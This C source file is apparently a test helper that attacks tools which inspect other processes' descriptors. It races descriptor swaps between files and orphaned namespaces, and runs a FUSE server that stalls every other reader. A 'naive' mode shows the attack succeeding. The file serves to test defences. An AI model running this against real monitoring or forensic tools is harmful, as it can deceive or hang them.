// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * alternate.c: continuously replaces the files to which its descriptors refer, so that each
 * descriptor refers sometimes to a namespace and sometimes to another file. It attacks tools that
 * examine the descriptors of other processes.
 *
 *	fd FILE		descriptors 9 to 40 are FILE, or a uts namespace that exists only because
 *			of them
 *	fuse DIR	like fd, with a file of a FUSE server on DIR, which answers only this
 *			process
 *	sock DIR	like fuse, with a socket in a net namespace that exists only because of it
 *	watch FILE SEEN	creates SEEN and exits when a process opens FILE; also exits at SIGTERM
 *	naive PID [sock]	acts as a tool without a defence, to show that the attack works:
 *			for two seconds, opens the descriptors 9 to 40 of PID by name or, with
 *			sock, duplicates them with pidfd_getfd(2)
 *
 * Writes "TYPE INODE" to descriptor 3 when the attack has started.
 */
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define SHOWN   9
#define SHOWN_N 32

static void check(int ok, const char *what)
{
	if (ok)
		return;
	perror(what);
	exit(1);
}

static int open_file(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	check(fd >= 0, path);
	return fd;
}

/* Writes the type and the inode of the namespace to descriptor 3, to signal that the exchange of
 * the descriptors starts. */
static void notify_line(const char *type, int ns)
{
	struct stat st;

	check(fstat(ns, &st) == 0, "fstat");
	dprintf(3, "%s %lu\n", type, (unsigned long)st.st_ino);
	close(3);
}

/*
 * Creates a namespace and then enters a second one, so that no process is in the first. Writes the
 * inode of the first. Returns a descriptor of it or, for a net namespace, a socket in it.
 */
static int make(int flag, const char *path, const char *type)
{
	int fd, ns;

	check(unshare(flag) == 0, "unshare");
	fd = ns = open_file(path, O_RDONLY);
	if (flag == CLONE_NEWNET)
		fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	check(fd >= 0 && unshare(flag) == 0, "unshare");
	notify_line(type, ns);
	if (ns != fd)
		close(ns);
	return fd;
}

/* Replaces each descriptor from SHOWN on by a duplicate of a or of b, in an endless loop. Chooses a
 * or b at random, so that a tool that examines the descriptors at a fixed rate cannot miss every
 * replacement by chance. */
static void alternate(int a, int b)
{
	unsigned random = 1;

	for (;;)
		for (int fd = SHOWN; fd < SHOWN + SHOWN_N; fd++) {
			random = random * 1103515245 + 12345;
			dup2(random >> 16 & 1 ? a : b, fd);
		}
}

/* ---- A FUSE server that answers one process */

static void answer(int fuse, const struct fuse_in_header *in, const void *body, size_t n)
{
	struct fuse_out_header out = { .len = (unsigned)(sizeof(out) + n), .unique = in->unique };
	char text[512];

	memcpy(text, &out, sizeof(out));
	memcpy(text + sizeof(out), body, n);
	check(write(fuse, text, sizeof(out) + n) > 0, "answer of the FUSE server");
}

/*
 * Answers FUSE_INIT and the requests of the process with the pid `client`, but no other requests.
 * Every name leads to the same regular file.
 */
static void serve(int fuse, unsigned client)
{
	static char text[1 << 17] __attribute__((aligned(8)));
	const struct fuse_in_header *in = (void *)text;

	while (read(fuse, text, sizeof(text)) > 0) {
		struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION,
					      .minor = 31,
					      .max_write = 4096 };
		struct fuse_entry_out entry = {
			.nodeid = 2, .attr = { .ino = 2, .mode = S_IFREG | 0444, .nlink = 1 }
		};
		struct fuse_attr_out attr = { .attr = entry.attr };
		struct fuse_open_out opened = { .fh = 1 };

		if (in->nodeid == FUSE_ROOT_ID)
			attr.attr.mode = S_IFDIR | 0755;
		if (in->opcode == FUSE_INIT)
			answer(fuse, in, &init, sizeof(init));
		else if (in->pid != client)
			continue; /* the request is never answered */
		else if (in->opcode == FUSE_LOOKUP)
			answer(fuse, in, &entry, sizeof(entry));
		else if (in->opcode == FUSE_GETATTR)
			answer(fuse, in, &attr, sizeof(attr));
		else if (in->opcode == FUSE_OPEN)
			answer(fuse, in, &opened, sizeof(opened));
		else if (in->opcode != FUSE_FORGET && in->opcode != FUSE_BATCH_FORGET)
			answer(fuse, in, "", 0);
	}
	_exit(0);
}

/* Mounts the FUSE server on DIR in a new mount namespace. Returns a descriptor of a file in DIR. */
static int open_fuse(const char *dir)
{
	int fuse = open_file("/dev/fuse", O_RDWR);
	unsigned client = (unsigned)getpid();
	char options[128], path[4096];

	check(unshare(CLONE_NEWNS) == 0, "unshare");
	check(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0, "mount");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other",
		 fuse);
	check(mount("alternate", dir, "fuse", MS_NOSUID | MS_NODEV, options) == 0, dir);
	if (fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		serve(fuse, client);
	}
	close(fuse);
	snprintf(path, sizeof(path), "%s/file", dir);
	return open_file(path, O_RDONLY);
}

/* ---- The watcher, and the tool without protection */

static volatile sig_atomic_t ended;

static void end(int sig)
{
	(void)sig;
	ended = 1;
}

static void watch(const char *file, const char *seen)
{
	int notify = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	struct sigaction act = { .sa_handler = end };
	struct pollfd p = { .fd = notify, .events = POLLIN };

	check(notify >= 0 && inotify_add_watch(notify, file, IN_OPEN) >= 0, file);
	sigaction(SIGTERM, &act, NULL);
	dprintf(3, "watch 0\n");
	close(3);
	while (!ended && poll(&p, 1, 100) <= 0)
		;
	if (poll(&p, 1, 0) > 0)
		close(open(seen, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
}

static void be_naive(const char *pid, int of_socket)
{
	int proc = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
	char path[64], link[64];
	time_t stop = time(NULL) + 2;

	/* look often enough even if this process gets no processor for seconds */
	for (long tries = 0; tries < 100000 || time(NULL) <= stop; tries++) {
		int i = (int)(tries % SHOWN_N);
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", atoi(pid), SHOWN + i);
		n = readlink(path, link, sizeof(link) - 1);
		if (n < 4 || memcmp(link, of_socket ? "sock" : "uts:", 4) != 0)
			continue;
		close(of_socket ? (int)syscall(SYS_pidfd_getfd, proc, SHOWN + i, 0)
				: open(path, O_RDONLY | O_CLOEXEC));
	}
}

int main(int argc, char **argv)
{
	const char *kind = argc > 1 ? argv[1] : "", *arg = argc > 2 ? argv[2] : "";

	if (strcmp(kind, "watch") == 0 && argc == 4) {
		watch(arg, argv[3]);
	} else if (strcmp(kind, "naive") == 0) {
		be_naive(arg, argc > 3);
	} else if (strcmp(kind, "fd") == 0) {
		/* opening a FIFO must not wait for its other end */
		int file = open_file(arg, O_RDONLY | O_NONBLOCK);

		alternate(make(CLONE_NEWUTS, "/proc/self/ns/uts", "uts"), file);
	} else if (strcmp(kind, "fuse") == 0) {
		int file = open_fuse(arg);

		alternate(make(CLONE_NEWUTS, "/proc/self/ns/uts", "uts"), file);
	} else if (strcmp(kind, "sock") == 0) {
		int file = open_fuse(arg);

		alternate(make(CLONE_NEWNET, "/proc/self/ns/net", "net"), file);
	} else {
		fputs("usage: alternate KIND ARG…\n", stderr);
		return 2;
	}
	return 0;
}
